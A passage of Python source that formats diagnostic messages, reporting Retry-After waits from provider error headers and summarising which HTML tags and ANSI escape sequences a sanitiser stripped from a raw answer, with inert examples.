    return _neutralised("; ".join(told))


def _retry_after(error: BaseException | None) -> str:
    """``, Retry-After 400 ms`` when the provider's error response asked for a wait."""
    headers: Mapping[str, Any] = getattr(getattr(error, "response", None), "headers", None) or {}
    if headers.get("retry-after-ms"):
        return f", Retry-After {headers['retry-after-ms']} ms"
    if headers.get("retry-after"):
        return f", Retry-After {headers['retry-after']} s"
    return ""


def _sanitised(changes: Mapping[str, int], raw: str) -> str:
    """What the sanitiser removed (its counts, from the row) with examples from the raw answer, shown inert."""
    parts = []
    for category, count in changes.items():
        name = _CHANGE_NAMES.get(category, category)
        examples: list[str] = []
        if category == "html":
            examples = [_neutralised(f"<{slash}{tag.lower()}>") for slash, tag in _TAG.findall(raw)]
        elif category == "ansi":
            examples = [_neutralised(sequence) for sequence in _CSI_OR_OSC.findall(raw)]
        listed = f" ({' '.join(dict.fromkeys(examples[:6]))})" if examples else ""
        parts.append(f"{count} {name}{listed}")
    return "sanitised before any agent saw it: removed " + " and ".join(parts)
